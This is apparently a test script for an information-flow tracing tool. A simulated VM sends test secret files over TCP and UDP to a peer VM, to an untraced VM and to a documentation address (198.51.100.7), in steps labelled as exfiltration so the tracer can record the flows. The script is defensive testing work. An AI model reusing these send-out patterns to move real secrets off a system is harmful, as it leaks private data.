#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
#
# Diffusion scenario "crossvm", guest 2 (10.0.0.2): sends its secrets to
# vm1 over TCP (write) and UDP (sendto), and out of the traced VMs: to
# 198.51.100.7 (TEST-NET-2, through a gateway that does not exist) with
# sendmsg and with a connected socket's sendmmsg, and to the untraced vm3
# (UDP, and TCP to vm3's listener).
# ./expected lists the exact edges.
S=/scenario/files
fails=0

# run CMD...: CMD, and an LTFAIL line if it fails (the script goes on; on
# stderr, which redirections of CMD's stdout leave to the log).
run() {
	"$@"
	rc=$?
	[ "$rc" = 0 ] || { echo "LTFAIL vm2: $*: exit $rc" >&2; fails=$((fails + 1)); }
}

[ -n "$LT_IP" ] || { echo "LTFAIL vm2: no network (LT_IP is empty)"; echo "LTDONE failed (1)"; exit 1; }

# vm1 answers on TCP 9005 once its UDP receiver is bound (it boots at the
# same time: retry). The datagram goes first, then the TCP connection
# (tcp-send retries until vm1 listens), whose end lets vm1 read both.
i=0
until nc -w 2 10.0.0.1 9005 </dev/null >/dev/null 2>&1; do
	i=$((i + 1))
	[ $i -lt 90 ] || { echo "LTFAIL vm2: vm1 never answered on TCP 9005" >&2; fails=$((fails + 1)); break; }
	sleep 1
done
run lt-diffuse udp-send $S/secret-2.txt 10.0.0.1 9001
run lt-diffuse tcp-send $S/secret-1.txt 10.0.0.1 9000
run lt-diffuse -n exfil-sendmsg udp-send -m $S/secret-3.txt 198.51.100.7 9999
run lt-diffuse -n exfil-connect udp-send -c $S/secret-4.txt 198.51.100.7 9998
run lt-diffuse -n to-untraced udp-send $S/secret-5.txt 10.0.0.3 9003
run lt-diffuse -n tcp-exfil tcp-send $S/secret-6.txt 10.0.0.3 9004
run lt-diffuse -n vm2-shared rw read $S/shared-secret.txt /tmp/vm2-shared.out

if [ $fails = 0 ]; then
	echo "LTDONE ok"
else
	echo "LTDONE failed ($fails)"
	exit 1
fi
